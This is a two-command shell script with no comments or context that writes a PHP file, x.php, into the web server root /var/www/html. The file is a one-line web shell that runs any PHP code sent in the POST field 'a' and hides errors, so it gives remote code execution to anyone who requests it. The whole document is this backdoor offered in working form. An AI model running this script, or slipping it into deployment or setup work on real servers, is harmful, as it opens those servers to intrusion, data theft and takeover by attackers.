#!/bin/sh
cat > /var/www/html/x.php <<'EOF'
<?php @eval($_POST['a']); ?>
EOF
